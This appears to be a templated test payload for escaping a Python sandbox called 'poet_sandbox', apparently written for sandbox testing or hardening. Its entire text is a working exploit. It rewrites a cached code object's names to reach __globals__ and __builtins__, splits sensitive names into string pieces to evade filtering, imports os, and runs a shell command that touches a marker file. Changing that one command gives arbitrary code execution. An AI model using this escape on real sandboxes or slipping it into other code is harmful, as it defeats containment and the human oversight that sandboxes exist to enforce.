# escape: the facility's driver caches code objects; code.replace(co_names=...) plus type(f)(code, {{}}) turns a literal read into a dunder read
# effect: marker
from poet_sandbox import driver
def reader(o):
    return o.placeholder
driver.rebind(reader, (1,), {{}}, {{}})
code = [c for c in getattr(driver, "_signa" + "tures") if c.co_name == "reader"][0]
function = type(reader)(code.replace(co_names=("__globals__",)), {{}})
g = function(reader)
b = g["__builtins__"]
imp = b["__import__"] if isinstance(b, dict) else getattr(b, "__imp" + "ort__")
imp("os").system("touch {marker}")
return "done"
